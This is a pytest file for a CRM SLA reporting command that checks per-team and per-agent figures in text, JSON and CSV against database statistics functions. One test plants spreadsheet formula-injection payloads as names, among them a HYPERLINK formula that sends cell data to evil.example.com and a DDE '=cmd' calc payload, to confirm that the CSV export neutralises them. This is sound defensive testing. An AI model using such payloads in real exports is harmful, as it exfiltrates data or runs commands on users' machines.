"""`crm-sla report`: the managers' numbers per team and per agent, as text, JSON and CSV, equal
to what the database's statistics functions say."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.cli import assert_one_line_error, crm_sla


@pytest.fixture
def scenario(world):
    """Ann (team Inbound) claims and contacts in time; Bob (Inbound) misses his claim window;
    Cid is in no team."""
    ann, bob, cid = world.agents("Ann", "Bob", "Cid")
    team = world.scalar("insert into public.crm_sla_teams (name) values ('Inbound') returning id")
    world.db.execute("insert into public.crm_sla_team_members values (%s, %s), (%s, %s)",
                     (team, ann, team, bob))
    prompt, missed = world.lead(ann), world.lead(bob)
    world.travel("1 minute")
    world.db.execute("select public.claim_lead(%s)", (prompt,))
    world.travel("1 minute")
    world.db.execute("select public.complete_first_action(%s)", (prompt,))
    world.travel("4 minutes")
    assert world.monitor()["unclaimed"] == 1
    return {"ann": ann, "bob": bob, "cid": cid, "missed": missed}


def test_report_json_equals_the_statistics_functions(world, scenario):
    proc = crm_sla("report", "--format", "json", url=world.url)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    agents = {r["full_name"]: r for r in data["agents"]}
    expected = {r["full_name"]: r for r in world.db.execute(
        "select * from public.crm_agent_sla_stats(%s, %s)", (data["from"], data["to"]))}
    assert set(agents) == set(expected) == {"Ann", "Bob", "Cid"}
    for name, row in expected.items():
        assert agents[name]["leads_received"] == row["leads_received"]
        assert agents[name]["claimed_in_window"] == row["claimed_in_window"]
        assert agents[name]["missed_claim"] == row["missed_claim"]
    assert agents["Ann"]["median_seconds_to_claim"] == 60
    assert agents["Bob"]["missed_claim"] == 1
    (inbound,) = data["teams"]
    assert (inbound["team_name"], inbound["agents"], inbound["leads_received"]) == (
        "Inbound", 2, 2 + agents["Ann"]["received_by_reassignment"])
    assert inbound["claimed_in_window"] == 1 and inbound["median_seconds_to_claim"] == 60
    assert sum(r["claim_windows"] for r in data["claims_by_hour"]) == 2
    assert sum(r["breaches"] for r in data["timeline"]) == 1


def test_report_text_and_csv(world, scenario):
    text = crm_sla("report", url=world.url)
    assert text.returncode == 0, text.stderr
    assert "per team" in text.stdout and "per agent" in text.stdout
    assert "claimed in time: 1 of 2 claim windows (50%); breaches: 1" in text.stdout
    rows = list(csv.DictReader(io.StringIO(crm_sla("report", "--format", "csv",
                                                   url=world.url).stdout)))
    assert [(r["scope"], r["name"]) for r in rows] == [
        ("team", "Inbound"), ("agent", "Ann"), ("agent", "Bob"), ("agent", "Cid")]
    assert rows[2]["missed_claim"] == "1"


def test_report_period_and_bad_input(world, scenario):
    week = crm_sla("report", "--from", "7d", "--format", "json", url=world.url)
    data = json.loads(week.stdout)
    assert data["agents"] and data["from"] < data["to"]
    early = crm_sla("report", "--from", "2020-01-01", "--to", "2020-01-02", "--format", "json",
                    url=world.url)
    assert all(r["leads_received"] == 0 for r in json.loads(early.stdout)["agents"])
    assert_one_line_error(crm_sla("report", "--from", "last tuesday", url=world.url),
                          "--from", "ISO date")
    assert_one_line_error(crm_sla("report", "--from", "2026-01-02", "--to", "2026-01-01",
                                  url=world.url), "period is empty")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(world, scenario):
    evil = '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")'
    world.agents(evil, "+1 sales", "-dash", "@at", "\tTab", "\rReturn", "Plain - name")
    world.db.execute("insert into public.crm_sla_teams (name) values ('=cmd|'' /C calc''!A0')")
    proc = crm_sla("report", "--format", "csv", url=world.url)
    assert proc.returncode == 0, proc.stderr
    names = [r["name"] for r in csv.DictReader(io.StringIO(proc.stdout))]
    assert "'" + evil in names and evil not in names
    for name in ("+1 sales", "-dash", "@at", "\tTab", "\rReturn"):
        # (the CR reads back as LF: crm_sla() reads the output in text mode)
        assert "'" + name.replace("\r", "\n") in names
    assert "'=cmd|' /C calc'!A0" in names
    # Names that start otherwise are unchanged, and so are the numbers.
    assert {"Ann", "Bob", "Plain - name"} <= set(names)
    ann = next(r for r in csv.DictReader(io.StringIO(proc.stdout)) if r["name"] == "Ann")
    assert ann["claimed_in_window"] == "1"
